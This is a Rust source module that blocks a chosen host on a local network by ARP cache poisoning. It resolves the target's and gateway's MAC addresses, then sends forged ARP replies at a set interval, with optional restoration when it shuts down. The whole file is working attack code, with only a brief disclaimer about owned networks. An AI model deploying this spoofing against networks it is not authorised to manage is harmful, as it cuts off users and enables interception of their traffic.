//! Per-target ARP blocking.
//!
//! A [`BlockSession`] cuts one host off the network by poisoning ARP caches
//! so traffic between the target and its gateway is addressed to a MAC that
//! never forwards it.
//!
//! # How it works
//!
//! 1. Resolve the target's (and, for bidirectional blocking, the gateway's)
//!    real MAC with ordinary ARP requests
//! 2. Every interval, tell the target that the gateway's IP is at the sink MAC
//! 3. With [`Strategy::Bidirectional`], also tell the gateway that the
//!    target's IP is at the sink MAC
//! 4. On graceful shutdown, optionally send the real mappings back
//!
//! The loop never ends on its own. It stops when its running flag is cleared
//! or the process is killed. A killed process cannot restore anything, so the
//! poisoned entries then linger until the peers' caches expire.
//!
//! It requires root privileges and should only be used on networks you own/manage.

use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use pnet::util::MacAddr;
use tracing::{debug, info, instrument, warn};

use crate::config::{BlockSettings, Sink, Strategy};
use crate::error::{NetworkError, Result};
use crate::network::{ArpFrame, ArpTable, FrameReceiver, FrameSender, InterfaceDescriptor};

/// Locally administered unicast address used as the black hole.
pub const BLACKHOLE_MAC: MacAddr = MacAddr(0x02, 0x00, 0x00, 0x00, 0xde, 0xad);

/// Lifecycle of a block session.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BlockState {
    Resolving,
    Active,
    Stopped,
}

/// Parameters of a block session.
#[derive(Debug, Clone)]
pub struct BlockConfig {
    /// Interval between forged reply rounds.
    pub interval: Duration,
    pub resolve_attempts: u32,
    pub resolve_timeout: Duration,
    pub strategy: Strategy,
    pub sink: Sink,
    pub restore_on_shutdown: bool,
}

impl From<&BlockSettings> for BlockConfig {
    fn from(settings: &BlockSettings) -> Self {
        Self {
            interval: settings.interval(),
            resolve_attempts: settings.resolve_attempts,
            resolve_timeout: settings.resolve_timeout(),
            strategy: settings.strategy,
            sink: settings.sink,
            restore_on_shutdown: settings.restore_on_shutdown,
        }
    }
}

/// Poisons one target until stopped.
pub struct BlockSession<S: FrameSender> {
    config: BlockConfig,
    interface: String,
    our_ip: Ipv4Addr,
    our_mac: MacAddr,
    target_ip: Ipv4Addr,
    gateway_ip: Ipv4Addr,
    learned: ArpTable,
    sender: S,
    state: BlockState,
}

impl<S: FrameSender> BlockSession<S> {
    /// Create a session for `target_ip` on the interface described by `descriptor`.
    ///
    /// Fails when the interface has no gateway to impersonate.
    pub fn new(
        descriptor: &InterfaceDescriptor,
        target_ip: Ipv4Addr,
        config: BlockConfig,
        sender: S,
    ) -> Result<Self> {
        let gateway_ip = descriptor
            .gateway
            .filter(|gw| !gw.is_unspecified())
            .ok_or_else(|| NetworkError::NoGateway(descriptor.name.clone()))?;

        Ok(Self {
            config,
            interface: descriptor.name.clone(),
            our_ip: descriptor.ipv4(),
            our_mac: descriptor.mac,
            target_ip,
            gateway_ip,
            learned: ArpTable::new(),
            sender,
            state: BlockState::Resolving,
        })
    }

    pub const fn state(&self) -> BlockState {
        self.state
    }

    pub const fn target_ip(&self) -> Ipv4Addr {
        self.target_ip
    }

    pub const fn gateway_ip(&self) -> Ipv4Addr {
        self.gateway_ip
    }

    pub fn interface(&self) -> &str {
        &self.interface
    }

    pub fn target_mac(&self) -> Option<MacAddr> {
        self.learned.get(&self.target_ip)
    }

    pub fn gateway_mac(&self) -> Option<MacAddr> {
        self.learned.get(&self.gateway_ip)
    }

    /// Record a known MAC, skipping resolution for that peer.
    pub fn set_peer_mac(&mut self, ip: Ipv4Addr, mac: MacAddr) {
        self.learned.insert(ip, mac);
    }

    /// The hardware address forged replies point at.
    pub const fn sink_mac(&self) -> MacAddr {
        match self.config.sink {
            Sink::Blackhole => BLACKHOLE_MAC,
            Sink::Local => self.our_mac,
        }
    }

    /// Peers whose MAC must be known before poisoning can start.
    fn required_peers(&self) -> Vec<Ipv4Addr> {
        match self.config.strategy {
            Strategy::Bidirectional => vec![self.target_ip, self.gateway_ip],
            Strategy::TargetOnly => vec![self.target_ip],
        }
    }

    /// Peers worth asking for: the required ones, plus the gateway when it
    /// will be needed to restore the target.
    fn wanted_peers(&self) -> Vec<Ipv4Addr> {
        let mut peers = self.required_peers();
        if self.config.restore_on_shutdown && !peers.contains(&self.gateway_ip) {
            peers.push(self.gateway_ip);
        }
        peers
    }

    fn unresolved(&self, peers: Vec<Ipv4Addr>) -> Vec<Ipv4Addr> {
        peers
            .into_iter()
            .filter(|ip| self.learned.get(ip).is_none())
            .collect()
    }

    /// Learn peer MACs from any ARP frame they sent.
    ///
    /// Frames carrying our own or the sink address are our forged traffic
    /// seen again by the packet socket and are ignored.
    fn learn(&self, frame: &[u8]) {
        let Ok(arp) = ArpFrame::decode(frame) else {
            return;
        };
        if arp.sender_mac == self.our_mac || arp.sender_mac == self.sink_mac() {
            return;
        }
        if arp.sender_ip == self.target_ip || arp.sender_ip == self.gateway_ip {
            if self.learned.get(&arp.sender_ip).is_none() {
                info!("Resolved {} -> {}", arp.sender_ip, arp.sender_mac);
            }
            self.learned.insert(arp.sender_ip, arp.sender_mac);
        }
    }

    /// Resolve the peers' MACs with bounded retries.
    ///
    /// Each attempt asks for every unknown peer and listens for
    /// `resolve_timeout`. On success the session becomes [`BlockState::Active`].
    ///
    /// With [`Strategy::TargetOnly`] the gateway is only needed to restore the
    /// target later, so failing to resolve it is not fatal.
    #[instrument(skip(self, capture), fields(target = %self.target_ip, gateway = %self.gateway_ip))]
    pub fn resolve<C: FrameReceiver>(&mut self, capture: &mut C) -> Result<()> {
        for attempt in 1..=self.config.resolve_attempts {
            let missing = self.unresolved(self.wanted_peers());
            if missing.is_empty() {
                break;
            }

            debug!(attempt, ?missing, "Sending ARP requests");
            for ip in &missing {
                let request = ArpFrame::request(self.our_mac, self.our_ip, *ip);
                self.sender.send(&request.encode())?;
            }

            let deadline = Instant::now() + self.config.resolve_timeout;
            while Instant::now() < deadline && !self.unresolved(self.wanted_peers()).is_empty() {
                match capture.next_frame() {
                    Ok(Some(frame)) => self.learn(&frame),
                    Ok(None) => {}
                    Err(err) => debug!("Ignoring receive error: {err}"),
                }
            }
        }

        if let Some(&ip) = self.unresolved(self.required_peers()).first() {
            warn!("Giving up on {ip} after {} attempts", self.config.resolve_attempts);
            return Err(NetworkError::ResolutionFailed { ip }.into());
        }
        if self.config.restore_on_shutdown && self.gateway_mac().is_none() {
            warn!(
                "Gateway {} did not answer, {} will not be restored on shutdown",
                self.gateway_ip, self.target_ip
            );
        }

        self.state = BlockState::Active;
        Ok(())
    }

    /// The forged replies of one round.
    pub fn forged_frames(&self) -> Vec<ArpFrame> {
        let sink = self.sink_mac();
        let mut frames = Vec::with_capacity(2);

        if let Some(target_mac) = self.target_mac() {
            frames.push(ArpFrame::reply(sink, self.gateway_ip, target_mac, self.target_ip));
        }
        if self.config.strategy == Strategy::Bidirectional
            && let Some(gateway_mac) = self.gateway_mac()
        {
            frames.push(ArpFrame::reply(sink, self.target_ip, gateway_mac, self.gateway_ip));
        }

        frames
    }

    /// Send one round of forged replies, returning how many went out.
    pub fn poison(&mut self) -> Result<usize> {
        let frames = self.forged_frames();
        for frame in &frames {
            self.sender.send(&frame.encode())?;
        }
        Ok(frames.len())
    }

    /// Send the real mappings to every peer we poisoned.
    ///
    /// Best effort: nothing is sent while a needed MAC is unknown, and a
    /// failed send does not stop the next one. Returns how many went out.
    pub fn restore(&mut self) -> usize {
        let (Some(target_mac), Some(gateway_mac)) = (self.target_mac(), self.gateway_mac()) else {
            warn!("Cannot restore ARP for {}: gateway MAC unknown", self.target_ip);
            return 0;
        };

        info!("Restoring ARP mappings for {}", self.target_ip);
        let mut frames = vec![ArpFrame::reply(
            gateway_mac,
            self.gateway_ip,
            target_mac,
            self.target_ip,
        )];
        if self.config.strategy == Strategy::Bidirectional {
            frames.push(ArpFrame::reply(
                target_mac,
                self.target_ip,
                gateway_mac,
                self.gateway_ip,
            ));
        }

        let mut sent = 0;
        for frame in frames {
            match self.sender.send(&frame.encode()) {
                Ok(()) => sent += 1,
                Err(err) => warn!("Failed to restore {} at {}: {err}", frame.target_ip, frame.target_mac),
            }
        }
        sent
    }

    /// Re-send the forged replies every interval until `running` is cleared.
    ///
    /// The first round goes out immediately. A failed round is logged and the
    /// loop carries on.
    pub async fn run(&mut self, running: &AtomicBool) {
        if self.state != BlockState::Active {
            warn!("Refusing to block {}: peers not resolved", self.target_ip);
            return;
        }

        info!(
            "Blocking {} on {} every {:?}",
            self.target_ip, self.interface, self.config.interval
        );

        let mut ticker = tokio::time::interval(self.config.interval);
        loop {
            ticker.tick().await;
            if !running.load(Ordering::SeqCst) {
                break;
            }
            match self.poison() {
                Ok(sent) => debug!("Sent {sent} forged replies for {}", self.target_ip),
                Err(err) => warn!("Failed to send ARP spoof packets: {err}"),
            }
        }

        self.state = BlockState::Stopped;
    }

    /// Restore the peers if configured to, then mark the session stopped.
    pub fn shutdown(&mut self) {
        if self.config.restore_on_shutdown {
            let sent = self.restore();
            debug!("Sent {sent} restore frames for {}", self.target_ip);
        }
        self.state = BlockState::Stopped;
    }
}
